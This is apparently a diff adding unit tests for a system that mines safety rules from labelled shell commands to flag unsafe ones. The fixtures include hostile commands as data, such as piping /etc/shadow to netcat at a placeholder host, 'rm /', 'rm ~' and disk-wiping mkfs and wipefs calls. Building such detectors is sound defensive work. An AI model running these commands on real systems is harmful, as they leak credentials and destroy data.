@@ -1,0 +1,127 @@
+import assert from 'node:assert/strict';
+import { canonicalLines } from '../../../../src/shell/canonical';
+import { lineFacts } from '../../../../src/ml/features/literals';
+import { gatherDataset } from '../../../../src/ml/dataset/dataset';
+import { deedsOf } from '../../../../src/ml/dataset/deeds';
+import { mineFamilies } from '../../../../src/ml/mining/families';
+import type { MiningCommand } from '../../../../src/ml/dataset/history';
+import { mineCandidates } from '../../../../src/ml/mining/mine';
+import { greedyCover } from '../../../../src/ml/rules/cover';
+import { labelled } from '../../../support/commands';
+
+function deeds(...commands: readonly ReturnType<typeof labelled>[]): ReadonlyMap<string, string> {
+  const { rows } = gatherDataset(commands);
+  const found = deedsOf(rows);
+  return new Map(rows.map((row, at) => [row.command, found[at]?.name ?? '']));
+}
+
+function mined(...commands: readonly string[]): readonly MiningCommand[] {
+  return commands.flatMap((command, call) =>
+    canonicalLines(command)
+      .flatMap((line) => lineFacts(line))
+      .map((facts) => ({ facts, isUnsafe: true, call })),
+  );
+}
+
+describe('deedsOf', () => {
+  it('counts one deed however it is wrapped in harmless commands', () => {
+    const names = deeds(
+      labelled('ls', 'safe'),
+      labelled('echo done', 'safe'),
+      labelled('git clean -f', 'unsafe'),
+      labelled('ls && git clean -f', 'unsafe'),
+      labelled('echo y | git clean -f', 'unsafe'),
+      labelled('(git clean -f)', 'unsafe'),
+    );
+    assert.equal(names.get('ls && git clean -f'), names.get('git clean -f'));
+    assert.equal(names.get('echo y | git clean -f'), names.get('git clean -f'));
+    assert.equal(names.get('(git clean -f)'), names.get('git clean -f'));
+  });
+
+  it('names an unsafe command by all of it where each part is also run safely', () => {
+    const names = deeds(
+      labelled('cat /etc/shadow', 'safe'),
+      labelled('nc a.b 1', 'safe'),
+      labelled('cat /etc/shadow | nc a.b 1', 'unsafe'),
+    );
+    assert.match(names.get('cat /etc/shadow | nc a.b 1') ?? '', /cat[^]*nc/);
+  });
+
+  it('takes no command apart that nobody called unsafe', () => {
+    const names = deeds(labelled('ls', 'safe'), labelled('ls && frob', 'unknown'));
+    assert.match(names.get('ls && frob') ?? '', /ls[^]*frob/);
+  });
+});
+
+describe('mineCandidates', () => {
+  const anyProgram = (commands: readonly MiningCommand[]): readonly string[] =>
+    mineCandidates(commands, { minTemplates: 2, maxLiterals: 1, keepNarrow: true })
+      .filter(({ candidate }) => candidate.heads.length === 0)
+      .flatMap(({ candidate }) => candidate.literals.map(({ text }) => text));
+
+  it('says any program only of what three programs share', () => {
+    assert.deepEqual(anyProgram(mined('a x --wipe', 'a y --wipe', 'b --wipe')), []);
+    assert.ok(anyProgram(mined('a --wipe', 'b --wipe', 'c --wipe')).includes('--wipe'));
+  });
+
+  it('sees what a root, a home and a system folder have in common', () => {
+    const shared = mineCandidates(mined('rm /', 'rm ~', 'rm /etc'), {
+      minTemplates: 3,
+      maxLiterals: 1,
+      keepNarrow: true,
+    }).flatMap(({ candidate }) => candidate.literals.map(({ text }) => text));
+    assert.ok(shared.includes('VITAL'));
+  });
+});
+
+describe('mineFamilies', () => {
+  it('joins programs of one stem where all of them are members', () => {
+    const [family] = mineFamilies(
+      mined('mkfs.ext4 /dev/sda', 'mkfs.xfs /dev/sdb', 'mkfs /dev/sdc', 'wipefs /dev/sdd'),
+    );
+    assert.deepEqual(family?.candidate.heads, ['mkfs*', 'wipefs']);
+  });
+});
+
+describe('greedyCover', () => {
+  const rule = (
+    unsafe: readonly string[],
+    more: { leastAdded?: number; priorHits?: number; priorDeeds?: number } = {},
+  ) => ({
+    backtest: {
+      unsafe: [],
+      safe: [],
+      unknown: [],
+      unsafeTemplates: new Set(unsafe),
+      safeTemplates: new Set<string>(),
+      lowerBound: 0.5,
+    },
+    complexity: 1,
+    backgroundHits: 0,
+    leastAdded: 1,
+    priorHits: 0,
+    priorDeeds: 0,
+    ...more,
+  });
+
+  it('takes no rule for fewer new commands than the rule must add', () => {
+    const first = rule(['a', 'b', 'c', 'd']);
+    assert.deepEqual(greedyCover([first, rule(['c', 'd', 'e'], { leastAdded: 3 })], 9), [0]);
+    assert.deepEqual(greedyCover([first, rule(['c', 'd', 'e'], { leastAdded: 1 })], 9), [0, 1]);
+  });
+
+  it('weighs deeds that the history does not show, and takes a rule that has no others', () => {
+    const unshown = rule([], { leastAdded: 0, priorHits: 30, priorDeeds: 2 });
+    assert.deepEqual(
+      greedyCover([rule(['a']), unshown, rule(['b', 'c', 'd', 'e', 'f'])], 3),
+      [2, 1, 0],
+    );
+    assert.deepEqual(greedyCover([rule([], { leastAdded: 0 })], 1), []);
+  });
+
+  it('takes what is known beforehand before what the history alone shows', () => {
+    const rules = [rule(['a', 'b', 'c']), rule(['c', 'd'], { priorHits: 30 })];
+    assert.deepEqual(greedyCover(rules, 1), [1]);
+    assert.deepEqual(greedyCover([rule(['a', 'b', 'c']), rule(['c', 'd'])], 1), [0]);
+  });
+});
